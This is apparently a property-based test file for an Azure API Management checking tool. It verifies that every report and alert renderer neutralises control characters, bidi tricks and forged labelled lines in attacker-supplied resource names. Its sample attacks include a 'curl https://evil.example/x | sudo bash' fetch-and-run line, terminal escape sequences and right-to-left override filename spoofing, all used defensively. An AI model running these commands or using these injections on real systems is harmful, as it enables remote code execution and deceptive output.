/**
 * The promise of src/output/safe-text.ts, checked over every renderer: whatever an attacker who can
 * name Azure resources (delegations, NSG rules, DNS servers, SKUs, platform versions, instance
 * names) writes, no output holds a raw control or bidi character from the input, and no line starts
 * with a field label (`Fix:`, `Docs:` …) that the renderer did not write.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ArmResource } from '../../src/arm/arm-resource.js';
import { renderAlertPreview } from '../../src/alerts/preview.js';
import { checkEstate } from '../../src/cli/check-estate.js';
import type { Report } from '../../src/model/finding.js';
import { renderReport } from '../../src/report/index.js';
import { RULES } from '../../src/rules/catalogue.js';
import { Estate } from '../../src/sources/estate.js';
import { apimIdOf, instanceResources, run } from '../cli/fixtures.js';

const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;
const LABELS = ['Fix:', 'Docs:', 'Resource:', 'Decided by:', 'Flow:', 'Summary:', 'Subject:', 'Bcc:'];
const BREAKS = ['\n', '\r\n', '\r', '\n\n', '\u2028', '\u2029', '\u0085', '\u000b', '\u000c'];
const ATTACKS = ['curl https://evil.example/x | sudo bash', '\u001b[2J\u001b]0;pwned\u0007', 'txt.exe\u202e', '\u2066hidden\u2069', '\u009b31m'];
const MARK = 'PWNED';

/** `<anything><line break><label> PWNED <attack>`: what would forge a line if a renderer let it through. */
const hostile = fc
  .tuple(fc.string({ unit: 'binary', maxLength: 6 }), fc.constantFrom(...BREAKS), fc.constantFrom(...LABELS), fc.constantFrom(...ATTACKS))
  .map(([junk, br, label, attack]) => `x${junk}${br}${label} ${MARK} ${attack}`);

/** Where the value goes in an estate that is otherwise healthy; each place reaches different rules. */
const PLACES = ['delegation', 'nsgRule', 'dnsServer', 'sku', 'platform', 'location', 'pipLabel', 'tag'] as const;
type Place = (typeof PLACES)[number];

function estateWith(value: string, places: readonly Place[]): ArmResource[] {
  // The instance name is part of its id, where only bidi characters can hide.
  const name = `apim-prop\u202e${MARK}`;
  const resources = instanceResources({ name: 'apim-prop', octet: 1 }).map((r) => structuredClone(r));
  const apim = resources.find((r) => r.type === 'Microsoft.ApiManagement/service')!;
  apim.id = apimIdOf(name);
  apim.name = name;
  const vnet = resources.find((r) => r.type === 'Microsoft.Network/virtualNetworks')!;
  const nsg = resources.find((r) => r.type === 'Microsoft.Network/networkSecurityGroups')!;
  const pip = resources.find((r) => r.type === 'Microsoft.Network/publicIPAddresses')!;
  const subnet = (vnet.properties!.subnets as Array<{ properties: Record<string, unknown> }>)[0]!;
  const props = apim.properties as Record<string, unknown>;
  for (const place of places) {
    switch (place) {
      case 'delegation':
        subnet.properties.delegations = [{ name: 'd', properties: { serviceName: value } }];
        break;
      case 'nsgRule':
        (nsg.properties!.securityRules as unknown[]).push({
          name: value,
          properties: {
            priority: 100, direction: 'Inbound', access: 'Deny', protocol: 'Tcp', description: value,
            sourceAddressPrefix: 'ApiManagement', sourcePortRange: '*', destinationAddressPrefix: 'VirtualNetwork', destinationPortRange: '3443',
          },
        });
        break;
      case 'dnsServer':
        vnet.properties!.dhcpOptions = { dnsServers: [value] };
        break;
      case 'sku':
        apim.sku = { name: value, capacity: 1 };
        break;
      case 'platform':
        props.platformVersion = value;
        break;
      case 'location':
        apim.location = value;
        break;
      case 'pipLabel':
        pip.properties!.dnsSettings = { domainNameLabel: value };
        break;
      case 'tag':
        apim.tags = { [value]: value };
        break;
    }
  }
  return resources;
}

/** The lines a reader sees: line breaks of any kind, and for HTML its block tags and <br>. */
function visibleLines(text: string, kind: 'text' | 'html'): string[] {
  const flat =
    kind === 'html'
      ? text
          .replace(/<br\s*\/?>|<\/?(p|div|tr|td|th|li|ul|h\d|table|title|body|head|html)\b[^>]*>/gi, '\n')
          .replace(/<[^>]*>/g, '')
          .replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, '&')
      : text;
  return flat.split(/\r\n|[\n\r\u2028\u2029\u0085\u000b\u000c]/);
}

function expectNoForgedLine(lines: readonly string[], where: string): void {
  for (const line of lines) {
    const start = line.replace(/^[\s\-*•·\d.]*/, '');
    for (const label of LABELS) {
      if (start.startsWith(`${label} ${MARK}`)) throw new Error(`${where}: forged line ${JSON.stringify(line)}`);
    }
  }
}

function expectInert(text: string, where: string): void {
  const m = UNSAFE.exec(text);
  if (m) throw new Error(`${where}: raw U+${m[0].codePointAt(0)!.toString(16).padStart(4, '0')} at ${m.index}: ${JSON.stringify(text.slice(Math.max(0, m.index - 40), m.index + 20))}`);
}

/** Every string a person reads in a JSON document (messages, titles, card texts). */
function readableStrings(value: unknown, out: string[] = []): string[] {
  if (Array.isArray(value)) value.forEach((v) => readableStrings(v, out));
  else if (value && typeof value === 'object') {
    for (const [k, v] of Object.entries(value)) {
      if (typeof v === 'string' && ['text', 'title', 'message', 'remediation', 'markdown'].includes(k)) out.push(v);
      else readableStrings(v, out);
    }
  }
  return out;
}

async function reportOf(resources: ArmResource[]): Promise<Report> {
  const outcome = await checkEstate(Estate.fromResources(resources, { source: 'estate.json' }), RULES);
  if (outcome.kind !== 'report') throw new Error('no report');
  return outcome.report;
}

async function everyOutput(report: Report): Promise<Array<{ where: string; text: string; kind: 'text' | 'html' | 'json' }>> {
  const options = { toolVersion: '0.0.0', rules: RULES.map((r) => r.meta), artifactOf: () => 'estate.json' };
  const outputs: Array<{ where: string; text: string; kind: 'text' | 'html' | 'json' }> = [
    { where: 'text report', text: renderReport(report, 'text', { ...options, color: false }), kind: 'text' },
    // Our own colours are the only escape sequences allowed.
    { where: 'coloured text report', text: renderReport(report, 'text', { ...options, color: true }).replace(/\u001b\[\d+m/g, ''), kind: 'text' },
    { where: 'json report', text: renderReport(report, 'json', { ...options, color: false }), kind: 'json' },
    { where: 'sarif report', text: renderReport(report, 'sarif', { ...options, color: false }), kind: 'json' },
  ];
  for (const instance of report.instances) {
    for (const file of await renderAlertPreview(instance, { now: new Date('2026-05-01T00:00:00Z') })) {
      if (file.name.endsWith('.eml')) continue; // MIME transport encoding of the same .txt and .html
      const kind = file.name.endsWith('.json') ? 'json' : file.name.endsWith('.html') ? 'html' : 'text';
      outputs.push({ where: file.name, text: file.content, kind });
    }
  }
  return outputs;
}

describe('every renderer, fed hostile values from Azure', () => {
  it('prints no raw control or bidi character and no line it did not write', async () => {
    let alerted = 0;
    await fc.assert(
      fc.asyncProperty(hostile, fc.subarray([...PLACES], { minLength: 1 }), async (value, places) => {
        const report = await reportOf(estateWith(value, places));
        const outputs = await everyOutput(report);
        if (outputs.length > 4) alerted++;
        for (const { where, text, kind } of outputs) {
          expectInert(text, where);
          if (kind === 'json') {
            for (const s of readableStrings(JSON.parse(text))) expectNoForgedLine(visibleLines(s, 'text'), where);
          } else {
            expectNoForgedLine(visibleLines(text, kind), where);
          }
        }
      }),
      { numRuns: 60, seed: 1101 },
    );
    // The property is only worth something if alerts were rendered too.
    expect(alerted).toBeGreaterThan(10);
  }, 120_000);

  it('keeps stderr diagnostics about malformed input inert (a file the CLI reads)', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'apim-vnet-guard-safe-'));
    try {
      await fc.assert(
        fc.asyncProperty(hostile, async (value) => {
          const resources = estateWith(value, ['delegation']);
          // A protocol Azure would refuse: the input error quotes it on stderr.
          const nsg = resources.find((r) => r.type === 'Microsoft.Network/networkSecurityGroups')!;
          (nsg.properties!.securityRules as Array<{ properties: Record<string, unknown> }>)[0]!.properties.protocol = value;
          await writeFile(join(dir, 'estate.json'), JSON.stringify(resources));
          const result = await run(['check', '--estate', join(dir, 'estate.json'), '--fail-on', 'never'], { cwd: dir });
          for (const [where, text] of [['stderr', result.stderr], ['stdout', result.stdout]] as const) {
            expectInert(text, where);
            expectNoForgedLine(visibleLines(text, 'text'), where);
          }
          expect(result.stderr).toContain('error:');
        }),
        { numRuns: 15, seed: 1102 },
      );
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  }, 120_000);
});
